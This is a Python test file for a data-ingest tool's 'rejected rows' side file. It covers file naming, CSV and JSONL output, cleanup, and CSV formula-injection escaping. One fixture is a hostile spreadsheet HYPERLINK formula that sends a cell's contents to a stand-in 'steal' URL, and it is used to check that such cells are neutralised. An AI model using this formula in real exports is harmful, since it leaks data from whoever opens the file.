"""The --skip-invalid side file: `_row`, `_errors`, then the original row, moved in place on commit."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from siyu.ingest.readers import BadRow, open_source
from siyu.ingest.rejects import RejectsFile, rejected_path


def test_names() -> None:
    assert rejected_path(Path("/d/c.csv"), "csv") == Path("/d/c.rejected.csv")
    assert rejected_path(Path("/d/c.xlsx"), "xlsx") == Path("/d/c.rejected.csv")
    assert rejected_path(Path("/d/c.json"), "jsonl") == Path("/d/c.rejected.jsonl")


def test_csv_side_file(tmp_path: Path) -> None:
    rejects = RejectsFile(tmp_path / "c.csv", "csv", ("_row", "id", "age"))
    rejects.write(3, {"_row": "9", "id": "c1", "age": 30}, [("owner", 'unknown staff "s9" (import staff first)')])
    rejects.write(
        5, BadRow("the row has 4 cells but the header has 3", cells=("c2", "1", "x", "y")), [("", "too long")]
    )
    assert not (tmp_path / "c.rejected.csv").exists()
    assert rejects.commit() == tmp_path / "c.rejected.csv"
    with (tmp_path / "c.rejected.csv").open(encoding="utf-8-sig", newline="") as handle:
        assert list(csv.reader(handle)) == [
            ["_row", "_errors", "id", "age"],
            ["3", 'owner: unknown staff "s9" (import staff first)', "c1", "30"],
            ["5", "too long", "c2", "1", "x", "y"],
        ]


def test_jsonl_side_file(tmp_path: Path) -> None:
    rejects = RejectsFile(tmp_path / "e.jsonl", "jsonl", None)
    rejects.write(2, {"id": "e1", "_errors": ["old"]}, [("at", "required"), ("customer", "x")])
    rejects.write(4, BadRow("expected a JSON object", "[1]"), [("", "expected a JSON object")])
    path = rejects.commit()
    assert path is not None
    lines = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    assert lines == [
        {"_row": 2, "_errors": ["at: required", "customer: x"], "id": "e1"},
        {"_row": 4, "_errors": ["expected a JSON object"], "_line": "[1]"},
    ]


def test_nothing_rejected_removes_a_stale_file(tmp_path: Path) -> None:
    stale = tmp_path / "c.rejected.csv"
    stale.write_text("old")
    assert RejectsFile(tmp_path / "c.csv", "csv", ("id",)).commit() is None
    assert not stale.exists()


def test_discard_leaves_no_partial_file(tmp_path: Path) -> None:
    rejects = RejectsFile(tmp_path / "c.csv", "csv", ("id",))
    rejects.write(2, {"id": "c1"}, [("id", "x")])
    rejects.discard()
    assert list(tmp_path.iterdir()) == []


def test_formula_cells_are_written_as_text_and_read_back_as_they_were(tmp_path: Path) -> None:
    hostile = '=HYPERLINK("http://x.example/steal?"&A2,"详情")'
    rejects = RejectsFile(tmp_path / "c.csv", "csv", ("id", "name", "@note"))
    rejects.write(2, {"id": "+c1", "name": hostile, "@note": "-1"}, [("id", "unknown")])
    rejects.write(3, BadRow("too long", cells=("c2", "\t=1", "'=2", "x")), [("", "=too long")])
    path = rejects.commit()
    assert path is not None
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows == [
        ["_row", "_errors", "id", "name", "'@note"],
        ["2", "id: unknown", "'+c1", "'" + hostile, "'-1"],
        ["3", "'=too long", "c2", "'\t=1", "''=2", "x"],
    ]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    with open_source(path) as source:
        assert source.columns == ("_row", "_errors", "id", "name", "@note")
        read = list(source.rows())
    assert read[0] == (2, {"_row": "2", "_errors": "id: unknown", "id": "+c1", "name": hostile, "@note": "-1"})
    assert isinstance(read[1][1], BadRow)
    assert read[1][1].cells == ("3", "=too long", "c2", "\t=1", "'=2", "x")
